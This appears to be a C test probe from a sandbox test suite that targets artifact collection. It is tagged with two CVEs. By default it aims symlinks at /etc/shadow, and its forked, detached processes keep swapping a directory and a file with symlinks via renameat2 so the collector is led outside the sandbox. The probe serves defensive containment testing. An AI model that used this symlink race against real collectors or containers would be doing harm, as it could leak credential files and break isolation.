// nsbox:class: filesystem
// nsbox:expect: contained
// nsbox:cve: CVE-2021-30465, CVE-2024-28185
// nsbox:artifacts: any
// nsbox:args: {canary}
// nsbox:why: A directory that turns into a symlink and back while files are collected must never lead the collector outside.
#include "probe.h"

int main(int argc, char **argv) {
    const char *to = argc > 1 ? argv[1] : "/etc/shadow";
    char dir[256];
    snprintf(dir, sizeof dir, "%s", to);
    if (strrchr(dir, '/') > dir) *strrchr(dir, '/') = 0;
    mkdir("/workspace/d", 0755);
    close(open("/workspace/d/f", O_CREAT | O_WRONLY, 0644));
    symlink(dir, "/workspace/l");
    close(open("/workspace/f", O_CREAT | O_WRONLY, 0644));
    symlink(to, "/workspace/g");
    for (int k = 0; k < 3; k++)
        if (fork() == 0) { /* these go on while the parent ends */
            time_t end = time(NULL) + 4;
            setsid();
            while (time(NULL) < end) {
                syscall(SYS_renameat2, AT_FDCWD, "/workspace/d", AT_FDCWD, "/workspace/l", 2);
                syscall(SYS_renameat2, AT_FDCWD, "/workspace/f", AT_FDCWD, "/workspace/g", 2);
            }
            _exit(0);
        }
    usleep(50000);
    contained("the race is on");
}
